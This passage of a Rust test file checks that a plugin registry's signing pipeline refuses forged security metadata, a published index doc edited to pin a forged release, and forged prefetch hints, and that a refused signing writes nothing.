    let p = pipeline_where(LIVE, ("acme.clock", "1.1.0"), None, &advise);
    let alarm = levels_target(&"acme.alarm".parse().unwrap());
    assert_ne!(alarm, levels_target(&"acme.clock".parse().unwrap()), "the test needs two buckets");
    let security = std::fs::read_dir(p.live.join(site::METADATA_DIR))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|path| path.to_string_lossy().ends_with(".security.json"))
        .max_by_key(|path| {
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            name.split('.').next().unwrap().parse::<u64>().unwrap()
        })
        .unwrap();
    let role: Envelope<Targets> = serde_json::from_slice(&std::fs::read(security).unwrap()).unwrap();
    let sha: Sha256 = role.signed.targets[&alarm].hashes["sha256"].parse().unwrap();
    let published = std::fs::read(site::target_file(&p.live, &alarm, &sha)).unwrap();
    p.forge_target("security", &alarm, &published);
    let message = p.refused();
    assert!(
        message.contains(&format!(
            "{alarm}: does not show the critical advisory on acme.alarm 0.1.0 that security/advisories.json names"
        )),
        "{message}"
    );
}

/// The signer compares a changed index doc with the published one only as the live
/// site's metadata lists it: whoever can write the live site but holds no key cannot
/// make a forged release look published by editing the published doc to pin it. The
/// signing is refused, naming the edited file, and nothing is written.
#[test]
fn refuses_a_published_index_doc_edited_to_pin_a_forged_release() {
    let p = pipeline();
    let key = fixture::key(1);
    p.forge_index_doc("acme.clock", |doc, prepared| swap_release(doc, prepared, "1.0.0", &[&key]));
    let target = site::index_target(&"acme.clock".parse().unwrap());
    let bin = site::bin_for_target(&target, 2, "bin");
    let forged: IndexDoc = serde_json::from_slice(&p.prepared_target(&bin, &target)).unwrap();
    let forged_release = forged.releases.iter().find(|r| r.version.to_string() == "1.0.0").unwrap();

    let published: Vec<PathBuf> = walkdir::WalkDir::new(p.live.join("targets/index"))
        .into_iter()
        .map(|e| e.unwrap().into_path())
        .filter(|path| path.is_file() && path.to_string_lossy().ends_with(".acme.clock.json"))
        .collect();
    let [file] = published.as_slice() else { panic!("{published:?}") };
    let mut doc: IndexDoc = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    let release = doc.releases.iter_mut().find(|r| r.version.to_string() == "1.0.0").unwrap();
    *release = forged_release.clone();
    std::fs::write(file, canonical::to_vec_of(&doc).unwrap()).unwrap();

    let error = p.sign().unwrap_err();
    assert!(matches!(&error, BuildError::SiteAltered { path, .. } if path == file), "{error}");
    assert!(error.to_string().contains("changed after it was signed"), "{error}");
    assert!(!p.out.exists(), "a refused signing wrote {}", p.out.display());
}

#[test]
fn refuses_a_prefetch_hint_a_build_would_not_make() {
    // The new release depends on acme.alarm: its doc's hint names it, walked through
    // the published doc, and the signer arrives at the same.
    let with_dependency = |registry: &Path| {
        let spec = ReleaseSpec::new("acme.clock", "1.2.0").depends_on("acme.alarm", "^0.1");
        fixture::add_release(registry, &spec, &fixture::key(1)).unwrap();
    };
    let prepared_with = || pipeline_where(LIVE, ("acme.clock", "1.1.0"), None, &with_dependency);
    let p = prepared_with();
    let target = site::index_target(&"acme.clock".parse().unwrap());
    let bin = site::bin_for_target(&target, 2, "bin");
    let doc: IndexDoc = serde_json::from_slice(&p.prepared_target(&bin, &target)).unwrap();
    assert_eq!(doc.prefetch, ["acme.alarm".parse::<PluginId>().unwrap()]);
    p.sign().unwrap();

    // A compromised build job dropping it, naming the plugin itself, or naming more.
    let many: Vec<String> = (0..70).map(|n| format!("acme.p{n}")).collect();
    for forged in [vec![], vec!["acme.alarm", "acme.clock"], many.iter().map(String::as_str).collect()] {
        let p = prepared_with();
        let named = forged.join(", ");
        p.forge_index_doc("acme.clock", |doc, _| doc.prefetch = forged.iter().map(|id| id.parse().unwrap()).collect());
        let message = p.refused();
        assert!(
            message.contains(&format!("its prefetch hint names [{named}]; a build makes [acme.alarm]")),
            "{message}"
        );
    }
}
